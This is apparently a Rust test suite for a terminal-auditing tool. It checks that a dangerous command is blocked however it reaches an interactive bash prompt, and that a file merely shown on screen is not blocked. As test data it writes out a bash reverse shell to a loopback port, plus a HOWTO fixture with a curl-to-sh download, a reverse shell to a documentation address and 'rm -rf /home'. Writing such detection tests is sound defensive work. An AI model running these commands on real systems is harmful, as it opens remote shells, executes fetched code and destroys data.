//! Ways around detection, at a real bash: what runs is judged however it came onto the line.
//!
//! Whatever is run here reaches nothing beyond this machine's own closed port.

use crate::sandbox::Sandbox;
use crate::terminal::Terminal;

/// A command that blocks.
const THREAT: &str = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1";

/// An interactive bash with this prompt.
fn bash(sandbox: &Sandbox, prompt: &str) -> Terminal {
    let mut command = sandbox.command(["run", "--", "bash", "--norc", "--noprofile", "-i"]);
    command.env("PS1", prompt).env("TERM", "xterm").env("HISTFILE", "");
    let mut terminal = Terminal::start(command);
    terminal.expect(prompt);
    terminal
}

/// Types a command and waits for the prompt behind it.
fn run(terminal: &mut Terminal, prompt: &str, command: &str) {
    terminal.type_in(&format!("{command}; echo do''ne\r"));
    terminal.expect("done\r\n");
    terminal.expect(prompt);
}

fn check(name: &str, prepare: &[&str], keys: &[&str]) {
    const PROMPT: &str = "dev@web1:~$ ";
    let sandbox = Sandbox::new();
    sandbox.file("home/old", &format!("{THREAT}\n"));
    sandbox.file("home/keys", &format!("\"\\C-xq\": \"{THREAT}\\n\"\n"));
    let mut terminal = bash(&sandbox, PROMPT);
    run(&mut terminal, PROMPT, "echo ready");
    for command in prepare {
        run(&mut terminal, PROMPT, command);
    }
    for key in keys {
        terminal.type_in(key);
        if *key == THREAT {
            // It is on the line before the next key comes.
            terminal.expect(THREAT);
        }
    }
    terminal.expect("session blocked");
    assert_eq!(sandbox.run(["ctl", "reject"]).status, 0, "{name}");
    assert_eq!(terminal.finish().0, 77, "{name}");
}

#[test]
fn any_key_that_runs_a_line_is_one() {
    check("Enter", &[], &[THREAT, "\r"]);
    check("operate-and-get-next", &[], &[THREAT, "\u{f}"]);
    check("Enter behind a cursor key", &[], &[THREAT, "\u{1b}[D", "\r"]);
}

#[test]
fn a_line_from_the_history_or_completion_is_judged() {
    // Not typed: read from a file.
    let remember = "history -r ~/old";
    check("history", &[remember], &["\u{1b}[A", "\r"]);
    check("search", &[remember], &["\u{12}/9 0", "\r"]);
}

#[test]
fn a_line_put_there_by_a_macro_is_judged() {
    check("macro", &["bind -f ~/keys"], &["\u{18}q"]);
}

#[test]
fn what_programs_print_does_not_switch_detection_off() {
    for (name, print) in [
        ("a mark of output", r"printf '\033]133;C\007'"),
        ("a mark of output at every prompt", r#"PROMPT_COMMAND='printf "\033]133;C\007"'"#),
        ("the alternate screen", r"printf '\033[?1049h'"),
        ("a row that vanishes", r"PS0='\r\e[K'"),
    ] {
        check(name, &[print], &[THREAT, "\u{1b}[D", "\r"]);
    }
}

#[test]
fn a_document_is_shown_without_a_block_whatever_it_shows() {
    let sandbox = Sandbox::new();
    let document = "Install\n$ curl http://192.0.2.1/x | sh\n\
                    root@h:~# bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n> rm -rf /home\nend\n";
    let path = sandbox.file("HOWTO", document);
    let path = path.to_str().unwrap();
    // nobody types: a command of its own, as in CI
    let mut terminal = Terminal::start(sandbox.command(["run", "--", "cat", path]));
    terminal.expect("end");
    assert_eq!(terminal.finish().0, 0);
    // somebody does
    const PROMPT: &str = "$ ";
    let mut terminal = bash(&sandbox, PROMPT);
    run(&mut terminal, PROMPT, &format!("cat {path}"));
    terminal.type_in("exit\r");
    let (status, shown) = terminal.finish();
    assert_eq!(status, 0, "{shown}");
    assert!(!shown.contains("session blocked"), "{shown}");
    // and where it is data on a pipe
    let ran = sandbox.feed(["run", "--", "wc", "-l"], document.as_bytes());
    assert_eq!((ran.status, ran.text().trim()), (0, "5"), "{ran:?}");
}

#[test]
fn commands_on_a_pipe_are_judged_where_a_shell_reads_them() {
    let sandbox = Sandbox::new();
    let mut command = sandbox.command(["run", "--", "bash"]);
    command.env("AUDITTY_BLOCKING__APPROVAL_TIMEOUT", "1");
    command.stdin(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    use std::io::Write as _;
    writeln!(input, "{THREAT}").unwrap();
    // the pipe stays open, so that the end comes from the block alone
    let ran = crate::sandbox::Ran::of(child);
    assert_eq!(ran.status, 77, "{ran:?}");
    drop(input);
}
